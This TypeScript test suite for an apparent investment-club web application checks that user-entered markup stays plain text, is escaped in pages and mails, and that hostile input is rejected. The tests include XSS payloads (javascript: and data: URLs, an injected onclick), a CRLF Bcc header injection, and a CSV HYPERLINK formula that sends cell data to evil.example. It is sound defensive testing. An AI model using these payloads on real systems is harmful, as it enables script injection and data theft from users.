import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dealJobs } from "#server/features/deals/jobs.ts";
import { buildDeal } from "#server/sample/build-deal.ts";
import { buildCommitment } from "#server/sample/build-held-round.ts";
import { buildInvestor } from "#server/sample/build-investor.ts";
import { buildAdmin, buildInvitation, buildMember, buildPerson, buildSubmission } from "#server/sample/builders.ts";
import { sampleStatementForms } from "#server/sample/sample-statement-forms.ts";
import { checklistItems } from "#shared/deals/deal-messages.ts";
import { defaultClub } from "#shared/settings/club.ts";
import { toCsv } from "#shared/to-csv.ts";
import { buildCalledRound } from "#tests/support/alder-round.ts";
import { alderFigures, buildHeldCompany } from "#tests/support/build-company-update.ts";
import { buildHolding } from "#tests/support/build-holding.ts";
import { confirmCollectionAccount } from "#tests/support/past-the-lists.ts";
import { takeMails } from "#tests/support/queued-mails.ts";
import { setDeals } from "#tests/support/set-deals.ts";
import { type Call, createTestApp, type TestApp } from "#tests/support/test-app.ts";
import { markupShapes } from "./markup-shapes.ts";

let club: TestApp;
let admin: Call;
let rounds = 0;
beforeAll(async () => {
  club = await createTestApp();
  admin = await club.as(await buildAdmin(club.db));
});
afterAll(() => club.close());

const lines = (text: string) => ({
  full_name: `A ${text}`,
  bio: text,
  position: text,
  company: text,
  location: text,
  services_offered: text,
  // A comma or semicolon parts one skill from the next.
  expertise: [...new Set(text.split(/[,;]/).map((skill) => skill.trim()))].filter(Boolean),
});

/** JSON with nosniff, text unchanged. */
function expectText(answer: Awaited<ReturnType<Call>>, found: unknown, expected: unknown): void {
  expect(answer.headers.get("content-type")).toBe("application/json");
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
  expect(found).toEqual(expected);
}

describe.each(markupShapes)("%s", (text) => {
  it("Markup stays text in a submission, its revision, the profile it becomes, and the lists", async () => {
    const person = await buildPerson(club.db);
    const member = await club.as(person);
    const sent = lines(text);
    const created = await member("POST", "/api/member-profile-submissions/me", sent);
    expectText(created, created.body, { ...created.body, ...sent });
    await admin("POST", `/api/member-profile-submissions/${created.body.id}/reject`, { admin_notes: text });
    const notes = await member("GET", "/api/member-profile-submissions/me");
    expectText(notes, notes.body.admin_notes, text);
    const revised = await member("PUT", "/api/member-profile-submissions/me", sent);
    expectText(revised, revised.body, { ...revised.body, ...sent });
    const review = await admin("GET", "/api/member-profile-submissions?status=pending");
    expectText(review, review.body.items[0], { ...review.body.items[0], ...sent, id: created.body.id });
    await admin("POST", `/api/member-profile-submissions/${created.body.id}/approve`);
    const saved = await member("PUT", "/api/member-profiles/me", sent);
    expectText(saved, saved.body, { ...saved.body, ...sent });
    const directory = await member("GET", `/api/member-profiles?q=${encodeURIComponent(text)}`);
    expectText(directory, directory.body.items[0], { ...directory.body.items[0], ...sent });
  });

  it("Markup stays text in the name of an adviser, for the member and on the adviser's page", async () => {
    const member = await club.as(await buildPerson(club.db));
    const name = `A ${text}`;
    const granted = await member("POST", "/api/portfolio/me/adviser-seats", { name });
    expectText(granted, granted.body.seat.name, name);
    const token = new URLSearchParams(granted.body.link.split("?")[1]).get("token");
    const read = await club.visitor("POST", "/api/adviser-links/read", { token });
    expectText(read, read.body.seat.name, name);
  });

  it("Markup stays text in the names of an account, a registration and an import", async () => {
    const member = await club.as(await buildPerson(club.db));
    const full_name = `A ${text}`;
    const named = await member("PUT", "/api/account/name", { full_name });
    expectText(named, named.body, { full_name });
    const session = await member("GET", "/api/session");
    expectText(session, session.body.session.user.user_metadata.full_name, full_name);

    const { email, code } = await buildInvitation(club.db);
    const registered = await club.visitor("POST", "/api/registrations", {
      code,
      email,
      password: "nine ferries",
      full_name,
    });
    expect(registered.status).toBe(201);
    const requests = await admin("GET", "/api/membership-requests?status=pending");
    const request = requests.body.items.find((item: { email: string }) => item.email === email);
    expectText(requests, request.full_name, full_name);

    // An import takes no name with an at-sign, which is an address.
    const imported_name = full_name.replaceAll("@", "");
    const list = {
      members: [{ line: 1, full_name: imported_name, email: `imported-${email}` }],
      send_invitations: true,
    };
    const preview = await admin("POST", "/api/member-imports/preview", list);
    const imported = await admin("POST", "/api/member-imports", list);
    expectText(preview, preview.body.items[0].full_name, imported_name);
    expectText(imported, imported.body.items[0].full_name, imported_name);
  });

  it("Markup stays text in content: its drafts, revisions and what is published", async () => {
    const content = { name: `A ${text}`, role: text, text, picture: "" };
    const written = await admin("POST", "/api/content", { kind: "co_founder", content });
    expectText(written, written.body.draft, content);
    const path = `/api/content/${written.body.id}`;
    const revision = await admin("GET", `${path}/revisions/1`);
    expectText(revision, revision.body.content, content);
    await admin("POST", `${path}/publish`, { expected_revision: 1 });
    const published = await club.visitor("GET", "/api/co-founders");
    const { name, role, text: words, picture } = published.body.items.at(-1);
    expectText(published, { name, role, text: words, picture }, content);
  });

  it("Markup stays text in the setup of the club", async () => {
    await club.db.deleteFrom("club_setup").execute();
    const { company_number, contact_email, name, operator } = defaultClub.identity;
    const identity = { name, operator, company_number, contact_email, address: [`A ${text}`], regulation: text };
    expect((await admin("POST", "/api/setup/finish", { ...identity, start_with: "examples" })).status).toBe(200);
    const shown = await club.visitor("GET", "/api/settings");
    const { address, regulation } = shown.body.identity;
    expectText(shown, { address, regulation }, { address: identity.address, regulation: text });
  });

  it("Markup stays text in mails: escaped in HTML, unchanged in plain text", async () => {
    await takeMails(club);
    const first = text.replace(/\s/g, "");
    const person = await buildPerson(club.db, { full_name: `${first} B` });
    const submission = await buildSubmission(club.db, { user_id: person.id });
    await admin("POST", `/api/member-profile-submissions/${submission.id}/reject`, { admin_notes: text });
    await admin("POST", "/api/member-imports", {
      members: [{ line: 1, full_name: `A${first.replaceAll("@", "")}`, email: `${person.id}@members.example` }],
      send_invitations: true,
    });
    const mails = await takeMails(club);
    expect(mails.map(({ template }) => template).sort()).toEqual(["invitation", "profile-rejected"]);
    for (const mail of mails) expectPlainMail(mail);
    const rejected = mails.find(({ template }) => template === "profile-rejected");
    expect(rejected?.text).toContain(`> ${text}`);
    expect(rejected?.html).toContain(escaped(text));
  });

  it("Markup stays text in an admin's mailed reason for a membership or profile decision", async () => {
    await takeMails(club);
    const person = await buildMember(club.db);
    const told: Record<string, string> = {
      suspend: "membership-suspended",
      reinstate: "membership-reinstated",
      "end-membership": "membership-ended",
      "hide-profile": "profile-hidden",
    };
    for (const [change, template] of Object.entries(told)) {
      const changed = await admin("POST", `/api/people/${person.id}/${change}`, { reason: text });
      expectText(changed, [changed.status, changed.body.user_id], [200, person.id]);
      // Mails are rendered when sent.
      const mails = await takeMails(club);
      expect(mails.map((mail) => [mail.template, mail.to])).toEqual([[template, person.email]]);
      for (const mail of mails) {
        expectPlainMail(mail);
        expect(mail.text).toContain(`> ${text}`);
        expect(mail.html).toContain(escaped(text));
      }
    }
    const factor = { user_id: person.id, secret: "x", backup_codes: "x", verified: true };
    await club.db.insertInto("auth.two_factors").values(factor).execute();
    await admin("POST", `/api/people/${person.id}/reinstate`, { reason: text });
    await takeMails(club);
    const acted: Record<string, string[]> = {
      "POST reset-two-factor": ["two-factor-reset"],
      "POST sign-out": ["signed-out-everywhere"],
      "POST lift-sign-in-limit": [],
      "PUT tier": ["tier-changed"],
    };
    for (const [call, templates] of Object.entries(acted)) {
      const [method = "", what] = call.split(" ");
      const input = { reason: text, ...(what === "tier" && { tier: "vip", from: "2026-01-01" }) };
      const changed = await admin(method, `/api/people/${person.id}/${what}`, input);
      expectText(changed, [changed.status, changed.body.user_id], [200, person.id]);
      const mails = await takeMails(club);
      expect(mails.map(({ template }) => template)).toEqual(templates);
      for (const mail of mails) {
        expectPlainMail(mail);
        expect(mail.text).toContain(`> ${text}`);
        expect(mail.html).toContain(escaped(text));
      }
    }
    const many = { user_ids: [person.id], tier: "premium", from: "2026-01-01", reason: text };
    const changed = await admin("POST", "/api/people/tiers", many);
    expectText(changed, changed.body.items[0].result, "set");
    const [mail] = await takeMails(club);
    if (!mail) throw new Error("no mail about the tier");
    expectPlainMail(mail);
    expect(mail.text).toContain(`> ${text}`);
    expect(mail.html).toContain(escaped(text));
    const history = await admin("GET", `/api/audit-events?person=${person.id}&kind=sign_in_limit_lifted`);
    expectText(history, history.body.items[0].reason, text);
    const shown = await admin("GET", `/api/people/${person.id}`);
    expectText(shown, shown.body.tiers[0].reason, text);
    expect(await reasonsOf(person.id)).toEqual({ standing_reason: text, hidden_reason: text });
  });

  it("Markup stays text in an investor record, and in why an admin opened it", async () => {
    const member = await club.as(await buildPerson(club.db));
    const record = {
      legal_name: text,
      date_of_birth: "1980-02-29",
      address: text,
      country: "GB",
      is_uk_taxpayer: true,
      bank_account_name: text,
    };
    const saved = await member("PUT", "/api/investor-records/me", record);
    expectText(saved, saved.body.record, record);
    const [{ id }] = (await admin("GET", "/api/investor-records?limit=1")).body.items;
    const opened = await admin("POST", `/api/investor-records/${id}/open`, { reason: text });
    expectText(opened, opened.body, { id, ...record });
    const own = await member("GET", "/api/investor-records/me");
    expectText(own, own.body.openings[0].reason, text);
  });

  it("Markup stays text in a company and its enquiry", async () => {
    const founder = { name: `A ${text}`, role: text, email: null, phone: text };
    const company = { name: `A ${text}`, sector: text, one_line: text, place: text, founders: [founder] };
    const enquiry = { ...company, round_name: `B ${text}`, enquired_on: "2026-11-20", note: text };
    const added = await admin("POST", "/api/deals/enquiries", enquiry);
    expectText(added, added.body.company, { ...added.body.company, ...company });
    expectText(added, [added.body.name, added.body.notes[0].text], [enquiry.round_name, text]);
    const found = await admin("GET", `/api/companies?q=${encodeURIComponent(text)}`);
    expectText(found, found.body.items[0].deals[0].name, enquiry.round_name);
  });

  it("Markup stays text in what is written of a deal, and is escaped in its page", async () => {
    const page = { why_we_like_it: [text], what_would_make_it_fail: [text], team: [], traction: [], scheme_note: text };
    const { id, ...deal } = await buildDeal(club.db, { state: "preparing", terms: { conflicts: text } });
    const change = { name: `A ${text}`, owner_id: null, page, expected_version: deal.updated_at };
    const saved = await admin("PUT", `/api/deals/${id}`, change);
    expectText(saved, [saved.body.name, saved.body.page], [change.name, page]);
    const noted = await admin("POST", `/api/deals/${id}/notes`, { text });
    expectText(noted, noted.body.notes[0].text, text);
    const { created_at: _at, author_name: _by, ...terms } = saved.body.terms[0];
    const set = await admin("POST", `/api/deals/${id}/terms`, { ...terms, rights: text });
    expectText(set, [set.body.terms[0].rights, set.body.terms[0].conflicts], [text, text]);
    const frozen = await admin("POST", `/api/deals/${id}/versions`, { checklist: [...checklistItems] });
    const version = await admin("GET", `/api/deals/${id}/versions/${frozen.body.versions[0].id}`);
    expectText(version, version.body.content.page, page);
    const shown = escaped(text).replaceAll("&#x27;", "'");
    for (const line of [`<li>${shown}</li>`, `<p>${shown}</p>`, `<dt>Rights</dt><dd>${shown}</dd>`])
      expect(version.body.page).toContain(line);
    const moving = { to: "screening", reason: text, expected_version: frozen.body.updated_at };
    const moved = await admin("POST", `/api/deals/${id}/transitions`, moving);
    expectText(moved, moved.body.moves[0].reason, text);
  });

  it("Markup stays text in a question, its answer or refusal, and a founder call", async () => {
    await setDeals(club.db);
    const member = await club.as(await buildInvestor(club.db));
    const { id } = await buildDeal(club.db);
    const asked = await member("POST", `/api/open-deals/${id}/questions`, { question: `Why not ${text}` });
    expectText(asked, asked.body.items[0].question, `Why not ${text}`.trim());
    const path = `/api/deals/${id}/questions/${asked.body.items[0].id}`;
    const [question] = (await admin("GET", `/api/deals/${id}/questions`)).body.items;
    const answer = { answer: `A ${text}`, expected_version: question.updated_at };
    const answered = await admin("POST", `${path}/answer`, answer);
    const [{ updated_at: expected_version, ...rest }] = answered.body.items;
    expectText(answered, [rest.question, rest.answer], [`Why not ${text}`.trim(), answer.answer.trim()]);
    const frozen = await admin("POST", `/api/deals/${id}/versions`, { checklist: [...checklistItems] });
    const version = await admin("GET", `/api/deals/${id}/versions/${frozen.body.versions[0].id}`);
    expect(version.body.page).toContain(escaped(answer.answer.trim()).replaceAll("&#x27;", "'"));
    const declined = await admin("POST", `${path}/decline`, { reason: `B ${text}`, expected_version });
    expectText(declined, declined.body.items[0].declined_reason, `B ${text}`.trim());
    const times = { starts_at: "2100-01-14T18:30:00Z", ends_at: "2100-01-14T19:30:00Z" };
    const call = { ...times, about: `A ${text}`, join_url: "https://meet.example" };
    const planned = await admin("POST", `/api/deals/${id}/calls`, call);
    expectText(planned, planned.body.items[0].about, call.about.trim());
    const { id: callId, updated_at } = planned.body.items[0];
    const cancelling = { reason: `A ${text}`, expected_version: updated_at };
    const cancelled = await admin("POST", `/api/deals/${id}/calls/${callId}/cancel`, cancelling);
    expectText(cancelled, cancelled.body.items[0].cancelled_reason, cancelling.reason.trim());
  });

  it("Markup stays text in a collection account and its note", async () => {
    const { id } = await buildDeal(club.db, { state: "closing" });
    const account = { account_name: `A ${text}`, bank: `B ${text}`, partner: `C ${text}` };
    const shown = {
      account_name: account.account_name.trim(),
      bank: account.bank.trim(),
      partner: account.partner.trim(),
    };
    const path = `/api/deals/${id}/collection-account`;
    // A deal has an account of its own.
    accounts += 1;
    const digits = { sort_code: "10-20-30", account_number: String(10_000_000 + accounts) };
    const entered = await admin("POST", path, { ...account, ...digits });
    expectText(entered, entered.body.entered, { ...entered.body.entered, ...shown });
    const note = `D ${text}`.trim();
    await confirmCollectionAccount(club, id, null, { note, isNew: true });
    const confirmed = await admin("GET", path);
    expectText(confirmed, confirmed.body.current.call_back_note, note);
  });

  it("Markup stays text in the price of a share, and in why it is refused", async () => {
    const { company_id } = await buildDeal(club.db);
    const price = { basis: "offer", price: "2.48", as_of: "2026-01-15" };
    const named = { share_class: `A ${text}`.slice(0, 120), source: `B ${text}` };
    const path = `/api/companies/${company_id}/valuations`;
    const entered = await admin("POST", path, { ...price, ...named });
    const { share_class, source } = entered.body;
    expectText(
      entered,
      { share_class, source },
      { share_class: named.share_class.trim(), source: named.source.trim() },
    );
    const refused = await admin("POST", `/api/valuations/${entered.body.id}/refuse`, { reason: `C ${text}` });
    expectText(refused, refused.body.refused_because, `C ${text}`.trim());
  });

  it("Markup stays text in what shows a split of shares, and in why it is refused", async () => {
    const { record_id } = await buildInvestor(club.db);
    const { id: deal_id, terms_id } = await buildDeal(club.db, { state: "completed" });
    const { company_id } = await buildHolding(
      club.db,
      await buildCommitment(club.db, { deal_id, terms_id, record_id }),
    );
    const split = { new_shares: 10, old_shares: 1, effective_on: "2026-03-01", source: `A ${text}` };
    const proposed = await admin("POST", `/api/companies/${company_id}/share-actions`, split);
    expectText(proposed, proposed.body.source, split.source.trim());
    const refused = await admin("POST", `/api/share-actions/${proposed.body.id}/refuse`, { reason: `B ${text}` });
    expectText(refused, refused.body.refused_because, `B ${text}`.trim());
  });

  it("Markup stays text in the reference that HMRC gave a company", async () => {
    const { record_id } = await buildInvestor(club.db);
    const { id: deal_id, terms_id } = await buildDeal(club.db, { state: "completed" });
    await buildHolding(club.db, await buildCommitment(club.db, { deal_id, terms_id, record_id }));
    const path = `/api/deals/${deal_id}/relief-steps`;
    await admin("POST", path, { step: "filed", happened_on: "2026-06-10" });
    const uir = `A ${text}`.trim().slice(0, 60);
    const recorded = await admin("POST", path, { step: "authorised", happened_on: "2026-08-05", uir });
    expectText(recorded, recorded.body.uir, uir);
  });

  it("Markup stays text in a bank's file, what it was booked as, and in why", async () => {
    rounds += 1;
    const { deal, memberOf } = await buildCalledRound(club.db, `M${"23456789ABCDEFGHJKMNPQRSTVWXYZ"[rounds]}7`);
    const { commitment_id } = memberOf(1);
    const header = ["Day", `Who ${rounds}`, "In pounds"];
    const name = `A ${text}`.trim().slice(0, 120);
    const columns = { reference: null, paid_in: null, paid_out: null, balance: null, id: null };
    const mapping = { ...columns, date: "Day", payer: header[1], amount: "In pounds", date_order: "day_first" };
    const saved = await admin("POST", "/api/bank-mappings", { name, header, mapping });
    expectText(saved, saved.body.name, name);
    const payer = `B ${text}`
      .replaceAll(/[\p{C}\s]+/gu, " ")
      .trim()
      .slice(0, 200);
    const file = toCsv([header, ["25/01/2026", payer, "10.00"]]);
    const path = `/api/deals/${deal.id}`;
    const csv = { "content-type": "text/csv" };
    const imported = await admin("POST", `${path}/bank-files?${new URLSearchParams({ name })}`, file, csv);
    expectText(imported, imported.body.name, name);
    const [line] = (await admin("GET", `${path}/bank-lines`)).body.items;
    expect(line.payer).toBe(payer);
    const parts = [{ kind: "receipt", commitment_id, amount_pence: 1000 }];
    const matched = await admin("POST", `/api/bank-lines/${line.id}/match`, { parts, reason: `C ${text}` });
    expectText(matched, matched.body.matches[0].reason, `C ${text}`.trim());
    const taking = { match_id: matched.body.matches[0].id, reason: text };
    expect((await admin("POST", `/api/bank-lines/${line.id}/unmatch`, taking)).status).toBe(200);
    await admin("POST", `/api/bank-lines/${line.id}/match`, {
      parts: [{ kind: "unidentified", amount_pence: 1000 }],
      reason: text,
    });
    const returning = { bank_line_id: line.id, amount_pence: 1000, reason: `D ${text}` };
    const returned = await admin("POST", `${path}/returns`, returning);
    expectText(returned, [returned.body.payee, returned.body.reason], [payer, returning.reason.trim()]);
  });

  it("Markup stays text in the name of a document, and is escaped in the page of its deal", async () => {
    const { id } = await buildDeal(club.db);
    const named = { title: `A ${text}`.trim().slice(0, 120), file_name: `B ${text}`.trim().slice(0, 200) };
    const csv = { "content-type": "text/csv" };
    const added = await admin("POST", `/api/deals/${id}/documents?${new URLSearchParams(named)}`, "a,b\n", csv);
    expectText(added, [added.body.title, added.body.file_name], [named.title, named.file_name]);
    await dealJobs["deal-documents"].run(club, { document_id: added.body.id });
    const frozen = await admin("POST", `/api/deals/${id}/versions`, { checklist: [...checklistItems] });
    const version = await admin("GET", `/api/deals/${id}/versions/${frozen.body.versions[0].id}`);
    expect(version.body.page).toContain(escaped(named.title).replaceAll("&#x27;", "'"));
  });

  it("Markup stays text in a company's update, its offer and the mails about both", async () => {
    const investor = await buildInvestor(club.db);
    const held = { records: [investor.record_id], issued_on: "2025-01-10", name: `A ${text}`.slice(0, 120) };
    const { id } = await buildHeldCompany(club.db, held);
    const { quarter } = (await admin("GET", `/api/companies/${id}/updates`)).body.quarters[0];
    await takeMails(club);
    expect((await admin("POST", `/api/companies/${id}/update-requests`, { quarter })).status).toBe(201);
    const [asking] = await takeMails(club);
    if (!asking) throw new Error("Nobody was asked.");
    expectPlainMail(asking);
    const token = new URLSearchParams(asking.link?.split("?")[1]).get("token") ?? "";
    const link = await club.visitor("POST", "/api/company-update-links/read", { token });
    expectText(link, link.body.company_name, held.name);
    const words = { text: `A ${text}`, offer: `B ${text}` };
    const sent = { ...alderFigures, ...words, letter_id: null, token };
    expect((await club.visitor("POST", "/api/company-update-links/send", sent)).status).toBe(201);
    const desk = await admin("GET", `/api/companies/${id}/updates`);
    const [version] = desk.body.quarters[0].versions;
    expectText(desk, version, { ...version, ...words });
    await admin("POST", `/api/company-updates/${version.id}/publish`);
    for (const mail of await takeMails(club)) expectPlainMail(mail);
    const own = await (await club.as(investor))("GET", `/api/portfolio/me/companies/${id}/updates`);
    expectText(own, own.body.items[0].text, words.text);
    const body = { ...alderFigures, ...words, letter_id: null, quarter, expected_version: 1 };
    const entered = await admin("POST", `/api/companies/${id}/updates`, body);
    expectText(entered, entered.body.quarters[0].versions[0].text, words.text);
  });

  it("Markup stays text in what a member typed of shares, and in the files about it", async () => {
    const member = await club.as(await buildPerson(club.db));
    const words = { company_name: `A ${text}`.slice(0, 120), share_class: `B ${text}`.slice(0, 120), note: text };
    const holding = { ...words, shares: 10, price: "1", cost_pence: 1000, issued_on: "2025-01-10" };
    const { company_id, id } = (await member("POST", "/api/portfolio/me/typed/holdings", holding)).body;
    const price = { as_of: "2025-02-10", price: "2", source: text };
    expect((await member("POST", `/api/portfolio/me/typed/companies/${company_id}/prices`, price)).status).toBe(201);
    expect((await member("PUT", `/api/portfolio/me/typed/holdings/${id}`, holding)).status).toBe(200);
    const own = await member("GET", `/api/portfolio/me/companies/${company_id}`);
    expectText(own, own.body.company.name, words.company_name);
    expectText(own, own.body.typed.holdings[0].note, words.note);
    expectText(own, own.body.typed.prices[0].source, text);
  });

  it("Markup stays text in a statement form, and is escaped in its rendering", async () => {
    const [sample] = sampleStatementForms;
    const runs = [{ text, is_bold: true }];
    const content = { ...sample?.content, title: `A ${text}`, blocks: [{ style: "paragraph", runs }] };
    const form = { ...sample, version_label: crypto.randomUUID(), law_reference: text };
    const dates = { valid_from: "2026-01-01", valid_until: null };
    const installed = await admin("POST", "/api/statement-forms/versions", { ...form, content, ...dates });
    expectText(installed, installed.body.content, content);
    expect(installed.body.rendering).toContain(`<p><b>${escaped(text).replaceAll("&#x27;", "'")}</b></p>`);
    const withdrawn = await admin("POST", `/api/statement-forms/${installed.body.id}/withdraw`, { reason: text });
    expectText(withdrawn, withdrawn.body.withdrawn_reason, text);
  });

  it("Markup stays text in a signed statement, and in why an admin opened and revoked it", async () => {
    const member = await club.as(await buildPerson(club.db));
    const record = { legal_name: text, date_of_birth: "1980-02-29", address: text, country: "GB" };
    const rest = { is_uk_taxpayer: true, bank_account_name: text };
    await member("PUT", "/api/investor-records/me", { ...record, ...rest });
    const [, sample] = sampleStatementForms;
    const { id: form_version_id } = await club.db
      .insertInto("statement_forms")
      .values({
        kind: "self_certified_sophisticated",
        version_label: crypto.randomUUID(),
        law_reference: "x",
        content: JSON.stringify(sample?.content),
        valid_from: "2026-01-01",
        sha256: "a".repeat(64),
        signed_off_at: new Date(),
      })
      .returning("id")
      .executeTakeFirstOrThrow();
    const no = { applies: false, fields: {} };
    const network = { applies: true, fields: { network: text } };
    const signed = await member("POST", "/api/statements", {
      kind: "self_certified_sophisticated",
      form_version_id,
      answers: { private_equity: no, director: no, investments: no, network },
      none_apply: false,
      declarations: ["true", "risk", "advice"],
      legal_name: text,
      signature: text,
    });
    const { id } = signed.body.statement;
    const lines = JSON.stringify((await member("GET", `/api/statements/me/${id}`)).body.lines);
    expect(lines).toContain(JSON.stringify(`Name of the network: ${text}`).slice(1, -1));
    const kept = await club.db
      .selectFrom("statement_pages")
      .select(["key_id", "sealed"])
      .where("statement_id", "=", id)
      .executeTakeFirstOrThrow();
    expect(club.pageSeal.open(id, kept)?.html).toContain(escaped(text).replaceAll("&#x27;", "'"));
    const opened = await admin("POST", `/api/statements/${id}/open`, { reason: text });
    expect(opened.status).toBe(200);
    const openings = await member("GET", "/api/investor-records/me");
    expectText(openings, openings.body.openings[0].reason, text);
    const revoked = await admin("POST", `/api/statements/${id}/revoke`, { reason: text });
    expectText(revoked, revoked.body.reason, text);
    const own = await member("GET", "/api/statements/me");
    expectText(own, own.body.items[0].reason, text);
  });

  it("Markup stays text in a user agent, of which the session list shows only known names", async () => {
    const person = await buildPerson(club.db);
    const cookie = await club.cookieOf(person);
    await club.db.updateTable("auth.sessions").set({ user_agent: text }).where("user_id", "=", person.id).execute();
    const account = await club.visitor("GET", "/api/account", undefined, { cookie });
    expectText(account, account.body.sessions[0].device, null);
  });
});

let accounts = 0;

const mailTags = [
  ..."a,body,div,h1,head,html,img,meta,p,span,strong,style,table,tbody,td,th,title,tr,br,hr,pre,blockquote".split(","),
];
/** No tags, handlers or URLs outside the template. */
function expectPlainMail({ subject, html, text }: Awaited<ReturnType<typeof takeMails>>[number]): void {
  expect(tagsOf(html)).toEqual(tagsOf(html).filter((tag) => mailTags.includes(tag)));
  expect(html).not.toMatch(/<[^>]+\son\w+\s*=|(href|src)="(javascript|data):/i);
  expect(subject).not.toMatch(/[\r\n]/);
  expect(text).toContain("Hello ");
}
const reasonsOf = (userId: string) =>
  club.db
    .selectFrom("user_roles as r")
    .innerJoin("member_profiles as p", "p.user_id", "r.user_id")
    .select(["r.standing_reason", "p.hidden_reason"])
    .where("r.user_id", "=", userId)
    .executeTakeFirst();
const tagsOf = (html: string) => [...html.matchAll(/<([a-z][\w-]*)/gi)].map(([, name = ""]) => name.toLowerCase());
const escaped = (text: string) =>
  text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#x27;");

describe("An invalid e-mail", () => {
  // "=cmd|'x'@members.example" is an address by the rules of mail: files of the club mark what begins as a formula.
  it.each(["<b>@members.example", '"<script>"@members.example', "a@members.example\r\nBcc: b@elsewhere.example"])(
    "An invalid e-mail is rejected in an invitation: %s",
    async (email) => {
      const { status, body } = await admin("POST", "/api/invitations", { email });
      expect([status, body.code]).toEqual([422, "invalid_body"]);
    },
  );
});

describe("A link that is not a web URL", () => {
  it.each([
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    " java\tscript:alert(1)",
    "//elsewhere.example",
    'https://a.example/" onclick="x',
  ])("A link that is not a web URL is rejected in a profile: %s", async (link) => {
    const member = await club.as(await buildPerson(club.db));
    const sent = { full_name: "Mina", website_url: link, linkedin_url: link, profile_image_url: link };
    const { status, body } = await member("POST", "/api/member-profile-submissions/me", sent);
    expect([status, body.errors.map(({ message }: { message: string }) => message)]).toEqual([
      422,
      ["Invalid url", "Invalid url", "Invalid url"],
    ]);
  });
});

describe("A CSV export", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&B2,"x\u2028y")', "'=HYPERLINK"],
    [" =1+1", "' =1+1"],
    ["\u2029+1", "'\u2029+1"],
    ["\uFF1D1+1", "'\uFF1D1+1"],
    ["\u200B@SUM(A1)", "'\u200B@SUM(A1)"],
  ])("A CSV export escapes the stored name %j as text", async (full_name, expected) => {
    const member = await buildMember(club.db, { profile: { full_name } });
    const saved = await (await club.as(member))("PUT", "/api/member-profiles/me", { full_name: "Mina" });
    expect(saved.status).toBe(200);
    await club.db.updateTable("member_profiles").set({ full_name }).where("user_id", "=", member.id).execute();
    const admin = await club.as(await buildAdmin(club.db));
    const csv = await admin("POST", `/api/audit-events.csv?person=${member.id}`);
    const cells = Papa.parse<string[]>(csv.body).data.flat();
    expect(cells.filter((cell) => cell.startsWith(expected))).not.toEqual([]);
    expect(cells.filter((cell) => /^[^\p{L}\p{N}']*[=+@\uFF1D]/u.test(cell))).toEqual([]);
  });
  it("Every CSV export is generated by one function", () => {
    const files = readdirSync("src", { recursive: true, encoding: "utf8" }).filter(
      (name) => /\.tsx?$/.test(name) && !name.includes(".test."),
    );
    const writers = files.filter((name) => /\bunparse\b/.test(readFileSync(join("src", name), "utf8")));
    // The others read a chosen file in the browser.
    expect(writers.toSorted()).toEqual([
      "shared/to-csv.ts",
      "web/features/imports/read-member-file.ts",
      "web/lib/workbook-to-csv.ts",
    ]);
  });
});
